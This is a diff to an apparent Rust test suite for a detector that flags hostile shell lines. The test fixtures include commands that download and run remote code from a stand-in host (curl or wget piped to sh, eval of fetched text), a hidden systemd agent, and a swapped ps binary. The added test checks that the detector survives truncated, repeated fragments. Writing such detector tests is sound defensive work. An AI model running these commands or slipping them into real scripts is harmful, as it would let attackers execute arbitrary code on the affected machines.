@@ -368,6 +368,7 @@ mod tests {
             "ExecStart=/opt/.w/agent",
             "cp /usr/lib/.x/ps /usr/bin/ps",
             "wget http://a.example/x -O /opt/x && chmod +x /opt/x && /opt/x",
+            "run: curl -s http://a.example/x | sh",
             "X=$(curl -s http://a.example/x); eval \"$X\"",
             "curl -s http://a.example/x > /opt/x; . /opt/x",
             "os.system(\"curl http://a.example/x | sh\")",
@@ -446,6 +447,19 @@ mod tests {
         assert!(of("curl -s \\\n  http://a.example/x \\\n  | sh\n").is_some());
         assert_eq!(of("# curl http://a.example \\\ntrue | sh\n"), None);
         assert_eq!(of(&"\\\n".repeat(100_000)), None);
+    }
+
+    #[test]
+    fn hostile_lines_end() {
+        for text in [
+            "eval $(curl ",
+            "eval \"$(curl x | sh",
+            "curl `x` > $(y) ",
+            "command=$(curl ",
+            "\"curl x\" ",
+        ] {
+            suspicions(text.repeat(4000).as_bytes());
+        }
     }
 
     #[test]
